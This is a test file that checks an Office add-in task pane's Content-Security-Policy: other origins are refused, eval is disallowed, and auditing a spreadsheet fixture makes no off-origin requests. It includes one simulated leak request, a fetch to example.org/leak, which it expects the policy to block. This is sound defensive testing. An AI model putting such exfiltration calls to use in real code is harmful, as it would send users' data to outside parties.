// The pane's Content-Security-Policy in Chromium (issue 25): a request to any other origin is
// refused by the policy itself (before any network), the policy allows no eval, and opening and auditing a
// workbook sends nothing to any origin but the pane's own.
import path from "path";
import { Pane, ROOT, startPane } from "./harness";

let pane: Pane;

beforeAll(async () => {
  pane = await startPane();
}, 60000);

afterAll(async () => {
  await pane?.close();
});

test("the policy refuses other origins and allows no eval; a run talks to no one", async () => {
  const { page, base } = pane;
  const foreign: string[] = [];
  page.on("request", (r) => {
    const u = new URL(r.url());
    if (u.origin !== base && u.protocol !== "blob:" && u.protocol !== "data:") foreign.push(u.href);
  });
  await page.goto(`${base}/taskpane.html`);
  await page.getByTestId("open-workbook").waitFor({ state: "attached", timeout: 20000 });
  // only office.js was asked for, as the page declares it (and refused: no network here)
  expect(foreign.every((u) => u.startsWith("https://appsforoffice.microsoft.com/"))).toBe(true);
  const before = foreign.length;
  const csp = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener("securitypolicyviolation", (e) =>
      violations.push(`${e.violatedDirective} ${e.blockedURI}`)
    );
    const fetched = await fetch("https://example.org/leak?x=1").then(
      () => "sent",
      () => "refused"
    );
    await new Promise((r) => setTimeout(r, 100));
    const policy =
      document
        .querySelector('meta[http-equiv="Content-Security-Policy"]')
        ?.getAttribute("content") ?? "";
    return { fetched, violations, policy };
  });
  expect(csp.fetched).toBe("refused");
  // scripts only from the pane and office.js's address, no eval, connections only to the pane
  // (DevTools' own evaluation is exempt from the policy, so eval is checked in its text)
  expect(csp.policy).toContain("script-src 'self' https://appsforoffice.microsoft.com;");
  expect(csp.policy).toContain("connect-src 'self';");
  expect(csp.policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline/);
  expect(csp.violations.some((v) => v.startsWith("connect-src https://example.org"))).toBe(true);
  // the refused fetch never became a request
  expect(foreign.length).toBe(before);

  await page
    .getByTestId("open-workbook")
    .setInputFiles(path.join(ROOT, "test", "fixtures", "small-2months.xlsx"));
  await page.getByText(/工单 · 411 行/).waitFor({ timeout: 60000 });
  await page.getByTestId("run").click();
  await page.getByTestId("total-deductions").waitFor({ timeout: 120000 });
  expect(foreign.slice(before)).toEqual([]);
  expect(pane.pageErrors).toEqual([]);
}, 180000);
